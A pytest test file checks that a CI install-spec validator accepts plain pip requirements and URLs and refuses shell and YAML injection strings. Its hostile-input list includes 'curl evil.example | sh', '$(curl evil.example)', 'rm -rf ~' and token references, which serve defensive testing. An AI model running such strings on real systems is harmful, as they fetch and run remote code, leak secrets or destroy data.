"""The install SPEC of the scaffolded workflows: a strict allow-list, and a default from PEP 610."""

from __future__ import annotations

from typing import Any

import pytest

from reconciler.core.errors import RefusalError
from reconciler.core.install_spec import check_install_spec, default_install_spec
from reconciler.core.reasons import ReasonCode

COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    "spec",
    [
        "rollout-reconciler==0.1.0",
        "git+https://git.example.com/platform/rollout-reconciler@v0.1.0",
        "git+ssh://git@github.com/acme/rollout-reconciler.git@v0.1.0",
        f"git+https://git.example.com/r.git@{COMMIT}#subdirectory=tools/reconciler",
        "https://files.example.com/rollout_reconciler-0.1.0-py3-none-any.whl#sha256=ab12",
        "./vendor/rollout_reconciler-0.1.0-py3-none-any.whl",
        ".",
        "/opt/wheels/rollout_reconciler-0.1.0-py3-none-any.whl",
        "https://host/a%20b.whl",
    ],
)
def test_one_pip_argument_is_accepted_as_it_is(spec: str) -> None:
    assert check_install_spec(spec) == spec


HOSTILE = [
    "rollout-reconciler\nrm -rf ~",
    "rollout-reconciler\r\n  shell: sh",
    "x'; curl evil.example | sh; '",
    'x"',
    "$(curl evil.example)",
    "${GITHUB_TOKEN}",
    "`id`",
    "x;id",
    "x&&id",
    "x&",
    "x|sh",
    "x>~/.bashrc",
    "x<y",
    "rollout-reconciler>=0.1",
    "x y",
    "x\ty",
    " x",
    "-e .",
    "--index-url=https://evil.example/simple",
    "#x",
    "x #comment",
    "x:",
    "(x)",
    "x*",
    "x?",
    "[x]",
    "{a,b}",
    "!x",
    "~/x",
    "x\\y",
    "",
    "x" * 301,
    "ｒollout-reconciler",
    "x\x00y",
    "x\u2028y",
]


@pytest.mark.parametrize("spec", HOSTILE, ids=[repr(spec)[:30] for spec in HOSTILE])
def test_anything_bash_or_yaml_could_read_as_more_than_text_is_refused(spec: str) -> None:
    with pytest.raises(RefusalError) as caught:
        check_install_spec(spec)

    assert caught.value.reason == ReasonCode.INSTALL_SPEC_INVALID
    message = caught.value.message
    assert message.startswith("--install must be one pip requirement or URL")
    assert message.isascii() and message.isprintable()  # the SPEC is shown as JSON, one line


def test_an_index_install_defaults_to_the_pinned_version() -> None:
    assert default_install_spec("0.1.0", None) == "rollout-reconciler==0.1.0"


def vcs(url: str, **extra: Any) -> dict[str, Any]:
    return {"url": url, "vcs_info": {"vcs": "git", "commit_id": COMMIT, **extra}}


def test_a_git_install_defaults_to_its_url_pinned_to_the_installed_commit() -> None:
    url = "https://git.example.com/platform/rollout-reconciler.git"
    found = default_install_spec("0.1.0", vcs(url, requested_revision="v0.1.0"))
    assert found == f"git+{url}@{COMMIT}"
    doc = {**vcs(url), "subdirectory": "tools"}
    assert default_install_spec("0.1.0", doc) == f"git+{url}@{COMMIT}#subdirectory=tools"


def test_a_remote_archive_defaults_to_its_url() -> None:
    url = "https://files.example.com/rollout_reconciler-0.1.0-py3-none-any.whl"
    assert default_install_spec("0.1.0", {"url": url, "archive_info": {}}) == url


@pytest.mark.parametrize(
    "doc",
    [
        {"url": "file:///work/rollout-reconciler", "dir_info": {"editable": True}},
        {"url": "file:///tmp/rollout_reconciler-0.1.0-py3-none-any.whl", "archive_info": {}},
        {"url": "FILE:///srv/x", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
        {"url": "https://example.com/folder", "dir_info": {}},
        {"url": "https://hg.example.com/r", "vcs_info": {"vcs": "hg", "commit_id": COMMIT}},
        {"url": "https://git.example.com/r.git", "vcs_info": {"vcs": "git"}},
        vcs("https://${TOKEN}@git.example.com/r.git"),
        # Not a URL (PEP 610 requires one): a path on this machine, not on a CI runner.
        {"url": "/etc/passwd", "archive_info": {}},
        {"url": "../rollout_reconciler-0.1.0-py3-none-any.whl", "archive_info": {}},
        vcs("/srv/git/rollout-reconciler.git"),
        # Credentials PEP 610 says to strip: they would be committed in three workflow files.
        {
            "url": "https://bob:s3cret@files.example.com/r-0.1.0-py3-none-any.whl",
            "archive_info": {},
        },
        vcs("https://x-access-token:ghp_abc@github.com/acme/r.git"),
        {"url": 7},
        {},
    ],
)
def test_a_local_or_unusable_origin_has_no_default(doc: dict[str, Any]) -> None:
    assert default_install_spec("0.1.0", doc) is None
